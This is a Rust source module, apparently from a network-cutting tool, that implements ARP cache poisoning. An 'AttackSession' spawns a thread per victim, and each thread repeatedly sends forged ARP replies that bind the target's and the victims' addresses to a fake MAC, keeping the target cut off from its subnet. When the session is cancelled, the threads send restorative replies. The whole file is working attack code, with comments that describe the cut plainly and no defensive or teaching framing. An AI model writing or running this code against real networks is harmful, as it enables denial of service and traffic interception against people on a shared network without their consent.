use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;

use pnet::util::MacAddr;
use tracing::{debug, warn};

use crate::link::{ArpOp, LinkLayer};
use crate::net::Interface;

/// (ip, mac) snapshot handed to flows at cut time. Flows never reach back
/// into the registry, so a session can outlive the Host value it was built
/// from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Peer {
    pub ip: Ipv4Addr,
    pub mac: MacAddr,
}

struct SpoofFlow {
    running: Arc<AtomicBool>,
    handle: Option<JoinHandle<()>>,
}

/// The set of spoof flows keeping one target cut, one flow per victim on the
/// target's subnet.
pub struct AttackSession {
    target: Peer,
    interface: Interface,
    flows: HashMap<Ipv4Addr, SpoofFlow>,
}

impl AttackSession {
    pub fn new(target: Peer, interface: Interface) -> Self {
        Self {
            target,
            interface,
            flows: HashMap::new(),
        }
    }

    pub fn has_flow(&self, victim_ip: Ipv4Addr) -> bool {
        self.flows.contains_key(&victim_ip)
    }

    pub fn victim_ips(&self) -> Vec<Ipv4Addr> {
        self.flows.keys().copied().collect()
    }

    /// Start the periodic forged-reply worker for one victim. The victim's
    /// cache learns (target.ip -> fake_mac); the target's cache learns
    /// (victim.ip -> fake_mac). Both directions, every tick, until cancelled.
    pub fn spawn_flow(
        &mut self,
        link: Arc<dyn LinkLayer>,
        victim: Peer,
        fake_mac: MacAddr,
        interval: Duration,
    ) {
        let running = Arc::new(AtomicBool::new(true));
        let flag = running.clone();
        let iface = self.interface.clone();
        let target = self.target;

        debug!(
            "starting spoof flow {} <-> {} (fake {})",
            target.ip, victim.ip, fake_mac
        );
        let handle = thread::spawn(move || {
            run_flow(link, iface, target, victim, fake_mac, interval, flag)
        });

        self.flows.insert(
            victim.ip,
            SpoofFlow {
                running,
                handle: Some(handle),
            },
        );
    }

    /// Cancel every flow and wait for each to emit its restorative pair and
    /// exit. Flags are flipped up front so teardown is bounded by one tick
    /// overall, not one tick per flow.
    pub fn shut_down(&mut self) {
        for flow in self.flows.values() {
            flow.running.store(false, Ordering::SeqCst);
            if let Some(handle) = &flow.handle {
                handle.thread().unpark();
            }
        }
        for (victim_ip, mut flow) in self.flows.drain() {
            if let Some(handle) = flow.handle.take() {
                if handle.join().is_err() {
                    warn!("spoof flow for {} panicked during shutdown", victim_ip);
                }
            }
        }
    }
}

fn run_flow(
    link: Arc<dyn LinkLayer>,
    iface: Interface,
    target: Peer,
    victim: Peer,
    fake_mac: MacAddr,
    interval: Duration,
    running: Arc<AtomicBool>,
) {
    while running.load(Ordering::SeqCst) {
        // Forged pair, victim side first. A failed send is worth retrying on
        // the next tick, not worth killing the flow over.
        if let Err(e) = link.send_arp(
            &iface,
            ArpOp::Reply,
            fake_mac,
            target.ip,
            victim.mac,
            victim.ip,
        ) {
            warn!("forged reply to {} failed: {}", victim.ip, e);
        }
        if let Err(e) = link.send_arp(
            &iface,
            ArpOp::Reply,
            fake_mac,
            victim.ip,
            target.mac,
            target.ip,
        ) {
            warn!("forged reply to {} failed: {}", target.ip, e);
        }

        // Cancellable inter-tick sleep: shut_down unparks us immediately, a
        // spurious wakeup just means one early tick.
        thread::park_timeout(interval);
    }

    // Final act: rebind both caches with the true addresses.
    if let Err(e) = link.send_arp(
        &iface,
        ArpOp::Reply,
        target.mac,
        target.ip,
        victim.mac,
        victim.ip,
    ) {
        warn!("restorative reply to {} failed: {}", victim.ip, e);
    }
    if let Err(e) = link.send_arp(
        &iface,
        ArpOp::Reply,
        victim.mac,
        victim.ip,
        target.mac,
        target.ip,
    ) {
        warn!("restorative reply to {} failed: {}", target.ip, e);
    }
}
